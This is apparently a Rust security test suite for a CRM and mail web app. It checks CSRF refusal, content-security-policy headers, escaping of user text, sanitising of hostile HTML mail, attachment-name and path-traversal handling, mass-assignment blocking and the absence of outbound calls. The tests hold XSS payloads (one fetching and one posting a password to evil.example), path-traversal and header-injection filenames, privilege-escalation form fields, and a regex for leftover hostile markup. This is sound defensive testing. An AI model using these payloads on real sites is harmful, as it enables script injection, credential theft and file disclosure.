//! What others may try with the pages, on every page there is: forms from other sites, frames, headers and paths
//! made of what was typed, hostile mail, fields that a form does not have, addresses that make us call.
//!
//! Where a guard has a test of its own elsewhere it is not repeated: a planted session, guessing, redirects and the
//! scopes of tokens are in `sign_in_pages.rs` and `api.rs`, mailboxes that lead where they should not in
//! `mailboxes_pages.rs`, imports in `imports.rs`. `fixtures/guards/run` takes each guard away and sees its test fail.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use crate::differential::{ACTIVITY, MESSAGES, RECORDS, ROUTES, Route, Site, addresses, route};
use crate::support::company::Kind;
use crate::views_seed::*;
use axum::body::Body;
use axum::http::{StatusCode, header};
use regex::Regex;
use standin::config::Config;
use standin::store::{Db, Tx};

/// The same test on both databases.
macro_rules! on_both {
    ($($name:ident)*) => {$(
        mod $name {
            #[tokio::test]
            async fn on_sqlite() {
                super::$name(crate::support::company::Kind::Sqlite).await;
            }

            #[tokio::test]
            async fn on_postgres() {
                super::$name(crate::support::company::Kind::Postgres).await;
            }
        }
    )*};
}

on_both! {
    no_form_from_another_site_is_carried_out
    no_page_stands_in_a_frame_and_none_runs_what_is_written_in_it
    what_people_write_is_text_on_every_page
    no_field_gives_a_right_that_its_form_does_not_have
}

async fn site(kind: Kind, name: &str, viewer: i64, statements: &[String]) -> Site {
    Site::with(kind, &format!("safety-{name}-{viewer}"), viewer, &Config::default(), statements).await
}

/// One address of each route.
fn one_address(route: &Route) -> String {
    addresses(route, &[PUMPS], &[REPLY]).swap_remove(0)
}

fn header_of<'h>(headers: &'h axum::http::HeaderMap, name: &str) -> &'h str {
    assert!(headers.get_all(name).iter().count() < 2, "{name} stands twice");
    headers.get(name).map_or("", |value| value.to_str().unwrap())
}

// Held by `guard::same_origin`, the layer in `web::router`.
async fn no_form_from_another_site_is_carried_out(kind: Kind) {
    let site = site(kind, "csrf", ANNA, &[]).await;
    let elsewhere: [&[(&str, &str)]; 5] = [
        &[("sec-fetch-site", "cross-site")],
        &[("sec-fetch-site", "same-site")],
        &[("origin", "https://evil.example"), ("host", "standin.firma.pl")],
        &[("origin", "null"), ("host", "standin.firma.pl")],
        // What a browser says counts, not what agrees with it.
        &[("sec-fetch-site", "cross-site"), ("origin", "http://standin.firma.pl"), ("host", "standin.firma.pl")],
    ];
    let mut asked = 0;
    for one in ROUTES.iter().filter(|one| !one.path.starts_with("/api/v1/") && one.methods.contains(&"POST")) {
        let address = one_address(one);
        for headers in elsewhere {
            let mut request =
                site.request("POST", &address).header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
            for (name, value) in headers {
                request = request.header(*name, *value);
            }
            let form = one.forms.first().copied().unwrap_or_default().replace("{id}", "12");
            let answer = site.send(request.body(Body::from(form)).unwrap()).await;
            assert_eq!(answer.0, StatusCode::FORBIDDEN, "{address} with {headers:?}: {}", answer.2);
            asked += 1;
        }
    }
    assert!(asked > 250, "{asked}");
    assert_eq!(site.get("/").await.0, StatusCode::OK, "nobody was signed out");
    // Our own forms are: else the above would prove nothing.
    assert_eq!(
        site.ask("POST", "/me", "language=pl&zone=Europe%2FWarsaw&digest_at=06%3A45&limit=3").await.0,
        StatusCode::SEE_OTHER
    );
    // A program's token is no cookie: no browser sends it by itself, and a cookie opens nothing there.
    let cookie = site.request("POST", "/records/new/account").body(Body::empty()).unwrap();
    let mut asked = site.request("POST", "/api/v1/accounts").body(Body::from("{\"name\": \"x\"}")).unwrap();
    asked.headers_mut().remove(header::AUTHORIZATION);
    asked.headers_mut().insert(header::COOKIE, cookie.headers()[header::COOKIE].clone());
    assert_eq!(site.send(asked).await.0, StatusCode::UNAUTHORIZED);
}

// Held by `guard::dress` and its POLICY, and by that of `web/body.rs`.
async fn no_page_stands_in_a_frame_and_none_runs_what_is_written_in_it(kind: Kind) {
    let mut pages = 0;
    let inline = Regex::new(r#"<script>|\son[a-z]+="|\sstyle="|javascript:"#).unwrap();
    for viewer in [ANNA, ADAM] {
        let site = site(kind, "frames", viewer, &[]).await;
        let probes = ["/livez", "/readyz"];
        for one in route("GET").filter(|one| !probes.contains(&one.path)) {
            let address = one_address(one);
            let (status, headers, body) = site.get(&address).await;
            let policy = header_of(&headers, "content-security-policy");
            assert_eq!(header_of(&headers, "x-content-type-options"), "nosniff", "{address}");
            assert_eq!(header_of(&headers, "referrer-policy"), "same-origin", "{address}");
            if !header_of(&headers, "content-type").starts_with("text/html") {
                continue;
            }
            pages += 1;
            if one.path == "/messages/{id}/body" && status == StatusCode::OK {
                assert!(policy.contains("frame-ancestors 'self'") && policy.contains("default-src 'none'"), "{policy}");
                assert!(policy.contains("sandbox allow-popups allow-popups-to-escape-sandbox"), "{policy}");
                continue;
            }
            assert!(policy.contains("frame-ancestors 'none'"), "{address}: {policy}");
            assert!(policy.contains("default-src 'self'") && policy.contains("script-src 'self'"), "{address}");
            assert!(policy.contains("form-action 'self'") && policy.contains("base-uri 'none'"), "{address}");
            assert!(!policy.contains("unsafe") && !policy.contains('*'), "{address}: {policy}");
            assert!(!inline.is_match(&body), "{address}: {:?}", inline.find(&body));
        }
        // What is refused before anybody knows who asks is dressed as well.
        let foreign = site.request("POST", "/me").header("sec-fetch-site", "cross-site").body(Body::empty()).unwrap();
        let (status, headers, _) = site.send(foreign).await;
        assert_eq!(status, StatusCode::FORBIDDEN);
        assert!(header_of(&headers, "content-security-policy").contains("frame-ancestors 'none'"));
    }
    assert!(pages > 100, "{pages}");
}

/// What somebody who can write a mail, a card or a name would like to be read as more than text.
const HOSTILE: &str = "\"'><img src=x onerror=alert(1)></title></textarea><script>alert(2)</script>";

// Held by askama's escaping: no template says `safe` of what people wrote.
async fn what_people_write_is_text_on_every_page(kind: Kind) {
    let text = HOSTILE.replace('\'', "''");
    let statements = vec![
        format!("update mails set subject = '{text}', visible = '{text}', from_name = '{text}'"),
        format!("update mail_parties set name = '{text}'"),
        format!("update users set name = '{text}' || id, phone = '{text}', external_id = '{text}' || id"),
        format!("update records set name = '{text}' || id, city = '{text}', phone = '{text}'"),
        format!("update records set number = '{text}' || id where kind = 'opportunity'"),
        format!("update activities set subject = '{text}', body = '{text}'"),
        format!("update mailboxes set name = '{text}' || id, address = '{text}'"),
        format!("insert into teams (id, name, created_at) values (1, '{text}', 0)"),
        "update users set team_id = 1".to_owned(),
    ];
    let mut shown = std::collections::BTreeSet::new();
    for viewer in [ANNA, PIOTR, ADAM] {
        let site = site(kind, "text", viewer, &statements).await;
        let few = kind == Kind::Postgres && viewer != ANNA && !crate::support::firm::full();
        for one in route("GET").filter(|one| !few && !one.path.starts_with("/api/")) {
            for address in addresses(one, &RECORDS, &MESSAGES) {
                let (status, headers, body) = site.get(&address).await;
                assert!(status.as_u16() < 500, "{address}: {body}");
                let typed = header_of(&headers, "content-type");
                if !typed.starts_with("text/html") && !typed.starts_with("text/event-stream") {
                    continue;
                }
                for bad in ["<img src=x", "<script>alert", "\"'>"] {
                    assert!(!body.contains(bad), "user {viewer}, {address}: {bad}");
                }
                if body.contains("img src=x onerror=alert(1)") {
                    shown.insert(one.path);
                }
            }
        }
    }
    for path in ["/", "/records", "/records/{id}", "/messages/{id}", "/activities", "/search", "/absences", "/review"] {
        assert!(shown.contains(path), "{path} does not show what was written: {shown:?}");
    }
}

/// Things that mail brings to get out of its frame, each with a word of its own that is to be read.
const TRAPS: [&str; 22] = [
    "<script>parent.document.title='x';fetch('https://evil.example/x')</script><p>Wort",
    "<img src=x onerror=alert(1)><p>Wort",
    "<form action='https://evil.example/steal' method=post><input name=password><button>OK</button></form><p>Wort",
    "<svg onload=alert(1)><script>alert(2)</script><use href='https://evil.example/a.svg#x'/></svg><p>Wort",
    "<svg><style><img src=x onerror=alert(1)></style></svg><p>Wort",
    "<p>Wort</p><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<style>@import 'https://evil.example/a.css';body{background:url(https://evil.example/b.png)}</style><p>Wort",
    "<p style='background:url(https://evil.example/d.png);position:fixed;inset:0'>Wort",
    "<div hx-get=/logout hx-trigger=load data-hx-post=/logout hx-on:load='alert(1)'>Wort</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'><p>Wort",
    "<video src='https://evil.example/v' autoplay></video><link rel=stylesheet href='https://evil.example/s.css'><p>Wort",
    "<iframe src='https://evil.example/'></iframe><object data='https://evil.example/o'></object><embed src=x><p>Wort",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><p>Wort",
    "<a href='javascript:alert(1)'>Wort</a>",
    "<a href='java\nscript:alert(1)'>Wort</a>",
    "<a href='&#106;avascript:alert(1)'>Wort</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>Wort</a>",
    "<a href='/logout' target=_top ping='https://evil.example/'>Wort</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'><p>Wort",
    "<p id=main class=toast name=location>Wort</p><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template><p>Wort",
    "<p>Wort<!--><script>alert(1)</script>-->",
];

/// What of these must not be left.
const LEFT: &str = r#"(?i)<(script|form|input|button|svg|math|style|meta|base|video|link|iframe|object|embed|template|noscript)\b|<[^>]*\s(on[a-z]+|style|hx-[a-z:-]+|data-hx-[a-z-]+|ping|srcset|srcdoc|id|name|action)\s*=|(href|src)\s*=\s*"?\s*(javascript:|data:text|data:image/svg|/|https?://evil\.example/[a-z])|url\(|@import"#;

/// Puts a mail in place of the stored one.
async fn store(db: &Db, raw: &[u8]) {
    let packed = zstd::encode_all(raw, 3).unwrap();
    let mut tx = db.write().await.unwrap();
    let Tx::Sqlite(t) = &mut tx else { panic!("on SQLite") };
    sqlx::query("update raws set bytes = $1 where mail_id = $2")
        .bind(packed)
        .bind(REPLY)
        .execute(&mut **t)
        .await
        .unwrap();
    tx.commit().await.unwrap();
}

// Held by ammonia in `web/body.rs`; behind it stand the policy of that page and the sandbox of its frame.
#[tokio::test]
async fn of_hostile_mail_its_words_are_left() {
    let site = site(Kind::Sqlite, "traps", PIOTR, &[]).await;
    let left = Regex::new(LEFT).unwrap();
    for trap in TRAPS {
        assert!(left.is_match(trap) || trap.contains("java") || trap.contains("&#106;"), "it would find {trap}");
        let raw = format!(
            "From: jan@acme.example\r\nTo: anna@firma.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n\
             Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>{trap}</body></html>\r\n"
        );
        store(&site.db, raw.as_bytes()).await;
        let (status, _, body) = site.get(&format!("/messages/{REPLY}/body")).await;
        assert_eq!(status, StatusCode::OK, "{trap}");
        let shown = body.split_once("<div lang=\"\">").unwrap().1;
        assert!(!left.is_match(shown), "{trap} left {:?} in {shown}", left.find(shown));
        assert!(shown.contains("Wort"), "{trap}: {shown}");
        let (_, _, page) = site.get(&format!("/messages/{REPLY}")).await;
        assert!(page.contains("sandbox=\"allow-popups allow-popups-to-escape-sandbox\""), "the frame");
    }
}

// Held by `message::disposition`: a file's name is one name, and ends no line.
#[tokio::test]
async fn an_attachment_is_saved_under_one_name_and_found_by_its_number_alone() {
    let site = site(Kind::Sqlite, "names", PIOTR, &[]).await;
    let names = [
        "filename=\"../../etc/passwd\"",
        "filename=\"..\\..\\..\\windows\\win.ini\"",
        "filename=\"/etc/passwd\"",
        "filename=\"C:\\x.exe\"",
        "filename*=utf-8''..%2f..%2fetc%2fpasswd",
        "filename*=utf-8''a%0d%0aX-Planted:%201.txt",
        "filename=\"=?utf-8?Q?a=0D=0AX-Planted:_1.txt?=\"",
        "filename*=utf-8''a%E2%80%AEgpj.exe",
        "filename*=utf-8''a%00.txt",
        "filename=\".htaccess\"",
        "filename=\"..\"",
        "filename=\"\"",
    ];
    for name in names {
        let raw = format!(
            "From: jan@acme.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n\
             --m\r\nContent-Type: text/plain\r\n\r\nText\r\n--m\r\nContent-Type: application/x-test\r\n\
             Content-Disposition: attachment; {name}\r\n\r\nvalue\r\n--m--\r\n"
        );
        store(&site.db, raw.as_bytes()).await;
        let index = standin::parse::parse(raw.as_bytes()).attachments.len() - 1;
        let (status, headers, body) = site.get(&format!("/messages/{REPLY}/attachments/{index}")).await;
        assert_eq!((status, body.trim()), (StatusCode::OK, "value"), "{name}");
        assert!(!headers.contains_key("x-planted"), "{name}");
        let disposition = header_of(&headers, "content-disposition");
        assert!(disposition.starts_with("attachment; filename=\""), "{name}: {disposition}");
        for bad in ["/", "\\", ":", "%2F", "%5C", "%3A", "%0D", "%0A", "%00", "%E2%80%AE", "=\"\"", "=\".", "''."] {
            assert!(!disposition.contains(bad), "{name}: {bad} in {disposition}");
        }
    }
    for path in [
        "/messages/101/attachments/..%2f..%2f..%2fetc%2fpasswd",
        "/messages/101/attachments/../../../etc/passwd",
        "/messages/101/attachments/-1",
        "/messages/101/attachments/%00",
        "/messages/..%2f101/attachments/0",
        "/api/v1/messages/101/attachments/..%2f..%2fetc%2fpasswd",
        "/assets/..%2f..%2fCargo.toml",
        "/assets/%2e%2e%2fmod.rs",
        "/assets/../mod.rs",
        "/assets/%2fetc%2fpasswd",
    ] {
        let (status, _, body) = site.get(path).await;
        assert!(status.is_client_error(), "{path}: {status} {body}");
        assert!(!body.contains("root:") && !body.contains("[package]"), "{path}");
    }
}

/// What no form of somebody like others decides: what users are, and whose records are.
async fn standing(db: &Db) -> Vec<String> {
    const USERS: &str = "select login || ' ' || role || ' ' || active || ' ' || coalesce(manager_id, 0) || ' ' || \
                         coalesce(team_id, 0) || ' ' || coalesce(password_hash, '') from users order by id";
    const RECORDS: &str = "select cast(id as text) || ' ' || owner_id || ' ' || coalesce(team_id, 0) from records \
                           where owner_id <> 1 order by id";
    const TOKENS: &str = "select cast(user_id as text) || ' ' || scope from api_tokens where scope = 'admin'";
    let mut tx = db.read().await.unwrap();
    let mut found = Vec::new();
    for sql in [USERS, RECORDS, TOKENS] {
        let rows: Vec<(String,)> = match &mut tx {
            Tx::Sqlite(t) => sqlx::query_as(sql).fetch_all(&mut **t).await.unwrap(),
            Tx::Postgres(t) => sqlx::query_as(sql).fetch_all(&mut **t).await.unwrap(),
        };
        found.extend(rows.into_iter().map(|(row,)| row));
    }
    found
}

// Held by the handlers, which take from a form what they name; `visit.person.admin` in `web/user.rs` and its like.
async fn no_field_gives_a_right_that_its_form_does_not_have(kind: Kind) {
    let more = "role=admin&admin=1&is_admin=true&active=1&active=on&manager=1&manager_id=1&user=anna&user_id=1&owner=1&\
                owner_id=1&team=1&team_id=1&scope=admin&password=aaaaaaaaaaaa&again=aaaaaaaaaaaa&password_hash=x&\
                confidential=false&deleted_at=&id=1&kind=account&created_at=0&vouched=1&standing=vouched&system=1";
    let team = "insert into teams (id, name, created_at) values (1, 'North', 0)".to_owned();
    let site = site(kind, "fields", ANNA, &[team]).await;
    let before = standing(&site.db).await;
    let mut asked = 0;
    let posts = ROUTES.iter().filter(|one| one.methods.contains(&"POST") && !one.path.starts_with("/api/"));
    for one in posts.filter(|one| !["/logout", "/login"].contains(&one.path)) {
        let users = ["1", "2", "5"].map(|id| one.path.replace("{id}", id));
        let mut places = addresses(one, &[PUMPS, VALVES, BETA], &[REPLY, ON_VALVES]);
        places.retain(|place| !place.contains('?'));
        // On PostgreSQL each takes ten times as long; what a form does does not depend on it.
        let few = kind == Kind::Postgres && !crate::support::firm::full();
        places.truncate(if few { 1 } else { places.len() });
        places.extend(users.into_iter().filter(|path| path.starts_with("/admin/") && !path.contains('{')));
        for address in places {
            for form in one.forms {
                let form = form.replace("{id}", "21").replace("{activity}", &(PUMPS + ACTIVITY).to_string());
                let bodies = [format!("do=save&name=x&{more}"), format!("{form}&{more}"), format!("{more}&{form}")];
                for body in bodies.into_iter().take(if few { 1 } else { 3 }) {
                    let (status, _, text) = site.ask("POST", &address, &body).await;
                    assert!(status.as_u16() < 500, "{address}: {body}: {text}");
                    asked += 1;
                }
                assert_eq!(standing(&site.db).await, before, "{address}: {form}");
            }
        }
    }
    assert!(asked > 100, "{asked}");
}

// There is no line to take out: nothing here fetches. Pictures of people are none, pictures in mail are left out, and
// what an import names is read by nobody (`imports.rs`).
#[tokio::test]
async fn no_address_that_others_write_is_called() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let place = format!("http://{}/secret.png", listener.local_addr().unwrap());
    let statements = vec![
        format!(
            "update mails set subject = '{place}', visible = '{place} <img src=\"{place}\">', from_name = '{place}'"
        ),
        format!("update records set name = '{place}' || id, city = '{place}', phone = '{place}'"),
        format!("update users set phone = '{place}', name = '{place}' || id"),
    ];
    let site = site(Kind::Sqlite, "calls", ANNA, &statements).await;
    let raw = format!(
        "From: jan@acme.example\r\nSubject: x\r\nList-Unsubscribe: <{place}>\r\nFace: {place}\r\nX-Image-Url: {place}\r\n\
         Content-Location: {place}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\
         Content-Type: text/html\r\n\r\n<img src=\"{place}\"><link rel=icon href=\"{place}\">\r\n--m\r\n\
         Content-Type: message/external-body; access-type=URL; URL=\"{place}\"\r\n\r\nContent-Type: image/png\r\n\r\n--m--\r\n"
    );
    store(&site.db, raw.as_bytes()).await;
    for address in route("GET").flat_map(|one| addresses(one, &[ACME, JAN, PUMPS], &[REPLY])) {
        site.get(&address).await;
    }
    for path in ["/records/new/account", "/records/new/contact", "/me", "/me/signature"] {
        let fields =
            format!("name={place}&website={place}&avatar={place}&picture={place}&url={place}&signature={place}");
        site.ask("POST", path, &fields).await;
    }
    let called = tokio::time::timeout(std::time::Duration::from_millis(200), listener.accept()).await;
    assert!(called.is_err(), "somebody called");
}
